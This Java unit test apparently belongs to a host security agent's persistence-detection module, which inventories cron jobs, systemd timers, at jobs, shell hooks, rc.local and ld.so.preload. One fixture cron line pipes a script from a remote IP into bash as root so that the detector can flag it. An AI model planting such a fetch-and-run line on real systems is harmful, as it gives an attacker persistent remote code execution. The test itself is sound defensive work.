package io.tenantra.agent.modules.persistence;

import static io.tenantra.agent.modules.Results.attrs;
import static io.tenantra.agent.modules.Results.hasRisk;
import static io.tenantra.agent.modules.Results.keys;
import static org.assertj.core.api.Assertions.assertThat;

import io.tenantra.agent.modules.Fixture;
import io.tenantra.model.ModuleResult;
import io.tenantra.model.ModuleStatus;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class PersistenceModuleTest {

    @TempDir
    Path temp;

    private Fixture fixture() {
        return Fixture.of("persistence", temp)
                .chmod("/etc/cron.daily/logrotate", "0755")
                .chmod("/etc/rc.local", "0755")
                .link("/etc/systemd/system/timers.target.wants/apt-daily.timer", "/lib/systemd/system/apt-daily.timer");
    }

    @Test
    void cronTimersAtJobsHooksRcLocalAndPreloadWithSourceCommandAndMtime() {
        ModuleResult result = fixture().run(new PersistenceModule());

        assertThat(result.status()).isEqualTo(ModuleStatus.OK);
        assertThat(keys(result, "cron_entry"))
                .containsExactly(
                        "/etc/cron.d/backup: 30 2 * * * root /usr/local/bin/backup --all",
                        "/etc/cron.d/updater: */5 * * * * root curl -fsSL http://203.0.113.9/u.sh | bash",
                        "/etc/crontab: 17 * * * * root cd / && run-parts --report /etc/cron.hourly",
                        "/etc/crontab: 25 6 * * * root test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }",
                        "/etc/crontab: @reboot root /usr/local/bin/on-boot.sh",
                        "/var/spool/cron/crontabs/alice: 0 9 * * 1-5 alice /home/alice/bin/report.sh");
        assertThat(attrs(result, "cron_entry", "/etc/crontab: @reboot root /usr/local/bin/on-boot.sh"))
                .containsEntry("schedule", "@reboot")
                .containsEntry("user", "root")
                .containsEntry("command", "/usr/local/bin/on-boot.sh")
                .containsKey("fileMtime");
        assertThat(hasRisk(
                        result,
                        "persistence.suspicious_command",
                        "/etc/cron.d/updater: */5 * * * * root curl -fsSL http://203.0.113.9/u.sh | bash"))
                .isTrue();
        assertThat(attrs(result, "cron_script", "/etc/cron.daily/logrotate"))
                .containsEntry("schedule", "daily")
                .containsEntry("executable", true);
        assertThat(attrs(result, "systemd_timer", "apt-daily.timer"))
                .containsEntry("schedule", List.of("OnCalendar=*-*-* 6,18:00"))
                .containsEntry("command", List.of("/usr/lib/apt/apt.systemd.daily update"))
                .containsEntry("enabledState", "enabled");
        assertThat(attrs(result, "at_job", "/var/spool/cron/atjobs/a0000101c4f2a0"))
                .containsEntry("command", "/home/alice/bin/cleanup --old")
                .containsEntry("queue", "a")
                .containsEntry("runAt", "2026-06-10T03:44:00Z");
        assertThat(keys(result, "shell_hook"))
                .containsExactly(
                        "/etc/profile", "/etc/profile.d/proxy.sh", "/home/alice/.bashrc", "/home/alice/.profile");
        assertThat(attrs(result, "shell_hook", "/home/alice/.bashrc"))
                .containsEntry("user", "alice")
                .containsEntry("scope", "user");
        assertThat(hasRisk(result, "persistence.suspicious_command", "/home/alice/.bashrc"))
                .isTrue();
        assertThat(hasRisk(result, "persistence.suspicious_command", "/etc/profile"))
                .isFalse();
        assertThat(attrs(result, "rc_local", "/etc/rc.local"))
                .containsEntry("commands", List.of("/usr/local/bin/firewall-up"))
                .containsEntry("executable", true);
        assertThat(hasRisk(result, "persistence.ld_preload", "/etc/ld.so.preload"))
                .isTrue();
    }

    @Test
    void anUnreadableSpoolIsPartial() {
        ModuleResult result = fixture().deny("/var/spool/cron/crontabs").run(new PersistenceModule());
        assertThat(result.status()).isEqualTo(ModuleStatus.PARTIAL);
        assertThat(result.messages()).contains("cannot list /var/spool/cron/crontabs: permission denied");
        assertThat(keys(result, "cron_entry")).noneMatch(k -> k.contains("alice"));
    }

    @Test
    void malformedLinesOddBytesAndWritableEntriesAreHandled() {
        Fixture f = fixture()
                .write("/etc/cron.d/broken", new byte[] {
                    '*',
                    ' ',
                    '*',
                    '\n',
                    '1',
                    ' ',
                    '2',
                    ' ',
                    '3',
                    ' ',
                    '4',
                    ' ',
                    '5',
                    ' ',
                    'r',
                    'o',
                    'o',
                    't',
                    ' ',
                    '/',
                    'b',
                    'i',
                    'n',
                    '/',
                    (byte) 0xfe,
                    '\n'
                })
                .chmod("/etc/cron.d/backup", "0666")
                .link("/home/alice/.zshrc", "/home/alice/.zshrc");
        ModuleResult result = f.run(new PersistenceModule());
        assertThat(result.messages()).contains("1 malformed line(s) ignored in /etc/cron.d/broken");
        assertThat(keys(result, "cron_entry")).contains("/etc/cron.d/broken: 1 2 3 4 5 root /bin/\uFFFD");
        assertThat(hasRisk(
                        result,
                        "persistence.writable_entry",
                        "/etc/cron.d/backup: 30 2 * * * root /usr/local/bin/backup --all"))
                .isTrue();
        assertThat(result.status()).isEqualTo(ModuleStatus.PARTIAL); // the looping .zshrc cannot be read
        assertThat(result.messages()).contains("cannot read /home/alice/.zshrc: symbolic link loop");
    }
}
